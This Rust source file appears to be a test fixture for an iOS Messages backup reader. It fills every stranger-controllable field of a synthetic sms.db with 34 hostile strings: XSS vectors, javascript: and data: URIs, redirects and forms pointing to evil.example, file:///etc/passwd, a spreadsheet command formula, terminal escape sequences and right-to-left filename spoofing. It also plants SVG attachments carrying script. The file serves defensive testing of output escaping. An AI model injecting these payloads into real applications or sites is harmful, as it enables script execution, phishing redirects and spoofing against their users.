//! A conversation in which every field that a stranger can fill holds markup, links that run, and escape sequences.

use std::path::Path;

use plist::Value;
use rusqlite::{Connection, ToSql};

use super::base::{HOME, plain};
use super::{ODD_MESSAGES, Row};
use crate::database::{self, insert};
use crate::era::Era;
use crate::error::Result;
use crate::life::Moment;
use crate::life::messages::apps::{self, Tree, t, u};
use crate::life::messages::{modern, story, summary};
use crate::mbfile::to_binary;
use crate::plists::{dictionary, text};
use crate::typedstream::{self, Run};

pub(super) const CRAFTED: &[Row] = &[(
    "sms-strangers",
    "markup, live links and escape sequences in names, texts, file names, previews, apps, polls, edits and stickers",
    ODD_MESSAGES,
    strangers,
)];

/// What strangers write: markup that runs, addresses that run or load, and bytes that mean something elsewhere.
pub const PAYLOADS: [&str; 34] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></textarea><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "\" onfocus=alert(1) autofocus x=\"",
    "'-alert(1)-'",
    "<iframe src=https://evil.example></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=https://evil.example><input name=a></form>",
    "<object data=x></object><embed src=x>",
    "<style>@import url(//evil.example)</style>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(1)",
    "JaVaScRiPt://evil.example/%0aalert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;&#x3c;script&#x3e;",
    "--><script>alert(1)</script><!--",
    "]]><!--<![CDATA[",
    "=cmd|' /C calc'!A0",
    "\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}31m",
    "\u{202e}gpj.exe\u{202c} \u{2066}\u{feff}",
    "mailto:x@evil.example?bcc=y@evil.example",
];

/// The table definitions that the rows below need; the rest of the schema would only take room.
const TABLES: [&str; 7] =
    ["attachment ", "chat ", "chat_handle_join", "chat_message_join", "handle", "message ", "message_attachment_join"];

const PLUGIN: &str = "com.apple.messages.MSMessageExtensionBalloonPlugin:0000000000:";
const LINK: &str = "com.apple.messages.URLBalloonProvider";
/// The files that all of them send; their names are the payloads'.
const FILES: [&str; 3] = ["page.html", "drawing.svg", "photo.jpg"];

/// Columns and values.
type Columns<'v> = Vec<(&'static str, &'v dyn ToSql)>;

fn strangers(root: &Path) -> Result<()> {
    let (schema, _) = modern::schema(Era::Ios18);
    let is_needed = |line: &&str| TABLES.iter().any(|table| line.starts_with(&format!("CREATE TABLE {table}")));
    let schema: Vec<&str> = schema.lines().filter(is_needed).collect();
    let database = database::build(&schema.join("\n"), |db| {
        (1..).zip(PAYLOADS).try_for_each(|(number, payload)| Stranger { db, number, payload }.writes())
    })?;
    let mut backup = plain()?;
    backup.retain(|record| !record.path.ends_with("sms.db"));
    backup.file(HOME, "Library/SMS/sms.db", database);
    let script = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    for name in FILES {
        backup.file("MediaDomain", &format!("Library/SMS/Attachments/ok/{name}"), script);
    }
    backup.write(root)
}

/// Somebody, by row number, and what they write everywhere.
struct Stranger<'a> {
    db: &'a Connection,
    number: i64,
    payload: &'static str,
}

impl Stranger<'_> {
    fn writes(&self) -> Result<()> {
        let payload = &self.payload;
        insert(self.db, "handle", &[("id", payload), ("service", payload)])?;
        insert(
            self.db,
            "chat",
            &[
                ("guid", payload),
                ("style", &43),
                ("chat_identifier", payload),
                ("service_name", payload),
                ("display_name", payload),
                ("last_addressed_handle", payload),
            ],
        )?;
        insert(self.db, "chat_handle_join", &[("chat_id", &self.number), ("handle_id", &self.number)])?;
        self.text()?;
        self.edited()?;
        self.apps()?;
        self.events()?;
        FILES.iter().try_for_each(|file| self.file(file))
    }

    fn says(&self, what: &str, columns: Columns<'_>) -> Result<i64> {
        let date = 740_000_000_000_000_000_i64 + self.number * 1_000_000_000;
        let guid = format!("{what} {}", self.payload);
        let mut row: Columns<'_> =
            vec![("guid", &guid), ("service", &self.payload), ("handle_id", &self.number), ("date", &date)];
        row.retain(|(name, _)| !columns.iter().any(|(own, _)| own == name));
        row.extend(columns);
        let id = insert(self.db, "message", &row)?;
        insert(self.db, "chat_message_join", &[("chat_id", &self.number), ("message_id", &id)])?;
        Ok(id)
    }

    /// Text with every attribute that holds words, as an answer with a subject and an effect.
    fn text(&self) -> Result<()> {
        let payload = self.payload;
        let run = |run: Run| Run { length: payload.encode_utf16().count(), ..run };
        let link = run(Run { link: Some(payload.into()), ..Run::text("", 0) });
        let mention = run(Run { mention: Some(payload.into()), ..Run::text("", 0) });
        let heard = Run { texts: vec![("IMAudioTranscription", payload.into())], ..Run::attachment(payload, 1) };
        let words = format!("{payload}{payload}{}", story::PLACEHOLDER);
        let body = typedstream::attributed(&words, &[link, mention, heard]);
        let answered = format!("link {payload}");
        let columns: Columns<'_> = vec![
            ("text", &words),
            ("attributedBody", &body),
            ("subject", &payload),
            ("expressive_send_style_id", &payload),
            ("thread_originator_guid", &answered),
            ("thread_originator_part", &payload),
            ("destination_caller_id", &payload),
        ];
        self.says("text", columns)?;
        // Without attributes, addresses are looked for in the text.
        self.says("bare", vec![("text", &format!("see {payload} and https://{payload}"))]).map(|_| ())
    }

    fn edited(&self) -> Result<()> {
        let first = Moment::at("2024-06-01T10:00:00Z")?;
        let history = summary::edited(&[(first, self.payload), (first.later(60), self.payload)])?;
        let edited = first.later(60).in_messages();
        self.says(
            "edited",
            vec![("text", &self.payload), ("message_summary_info", &history), ("date_edited", &edited)],
        )?;
        let translated = summary::translated(apps::translation(self.payload, self.payload)?)?;
        self.says("translated", vec![("text", &self.payload), ("message_summary_info", &translated)]).map(|_| ())
    }

    /// A preview, a song, a card, a poll, a company's question.
    fn apps(&self) -> Result<()> {
        let payload = self.payload;
        let more = vec![
            ("summary", t(payload)),
            ("siteName", t(payload)),
            ("creator", t(payload)),
            ("imageMetadata", Tree::Object("LPImageMetadata", vec![("URL", u("https://evil.example/pixel.gif"))])),
        ];
        let song = vec![("name", t(payload)), ("artist", t(payload)), ("previewURL", u(payload))];
        let song = vec![("specialization", Tree::Object("LPiTunesMediaSongMetadata", song))];
        let question = poll(payload);
        let request = company(payload);
        let all: [(&str, String, Vec<u8>); 5] = [
            ("link", LINK.into(), apps::link(payload, payload, more)?),
            ("song", LINK.into(), apps::link(payload, payload, song)?),
            ("card", format!("{PLUGIN}{payload}"), apps::card(payload, payload, payload, payload)?),
            ("poll", format!("{PLUGIN}com.apple.messages.Polls"), apps::poll(&question)?),
            ("company", "com.apple.icloud.apps.messages.business.extension".into(), apps::business(&request)?),
        ];
        for (what, bundle, content) in &all {
            self.says(what, vec![("text", &payload), ("balloon_bundle_id", bundle), ("payload_data", content)])?;
        }
        Ok(())
    }

    /// A reaction, a name for the group, and a kind that nobody knows.
    fn events(&self) -> Result<()> {
        let payload = &self.payload;
        let target = format!("p:0/text {payload}");
        self.says(
            "reaction",
            vec![
                ("text", payload),
                ("associated_message_type", &2006),
                ("associated_message_guid", &target),
                ("associated_message_emoji", payload),
            ],
        )?;
        self.says(
            "lost",
            vec![("text", payload), ("associated_message_type", &2000), ("associated_message_guid", payload)],
        )?;
        self.says("named", vec![("item_type", &2), ("group_title", payload)])?;
        self.says("unknown", vec![("text", payload), ("item_type", &77)]).map(|_| ())
    }

    /// A sticker that lies as `file` in the backup and is called as the payload wants.
    fn file(&self, file: &str) -> Result<()> {
        let payload = &self.payload;
        let (guid, path) = (format!("{file} {payload}"), format!("~/Library/SMS/Attachments/ok/{file}"));
        let info = to_binary(&dictionary([("pid", text(*payload))]))?;
        let app = to_binary(&dictionary([("name", text(*payload)), ("bundle-id", Value::String((*payload).into()))]))?;
        let row: Columns<'_> = vec![
            ("guid", &guid),
            ("original_guid", &guid),
            ("filename", &path),
            ("transfer_name", payload),
            ("mime_type", payload),
            ("uti", payload),
            ("is_sticker", &1),
            ("sticker_user_info", &info),
            ("attribution_info", &app),
            ("emoji_image_short_description", payload),
        ];
        let attachment = insert(self.db, "attachment", &row)?;
        let message = self.says(file, vec![("text", &story::PLACEHOLDER)])?;
        insert(self.db, "message_attachment_join", &[("message_id", &message), ("attachment_id", &attachment)])?;
        Ok(())
    }
}

/// A text as JSON has it.
fn json(words: &str) -> String {
    let letter = |letter: char| match letter {
        '"' | '\\' => format!("\\{letter}"),
        letter if letter.is_control() => format!("\\u{:04x}", u32::from(letter)),
        letter => letter.to_string(),
    };
    format!("\"{}\"", words.chars().map(letter).collect::<String>())
}

fn poll(payload: &str) -> String {
    let words = json(payload);
    format!(
        r#"{{"item":{{"title":{words},"orderedPollOptions":[{{"optionIdentifier":{words},"text":{words},"creatorHandle":{words}}}]}}}}"#
    )
}

fn company(payload: &str) -> String {
    let words = json(payload);
    format!(r#"{{"quick-reply":{{"summaryText":{words},"items":[{{"title":{words}}}]}}}}"#)
}
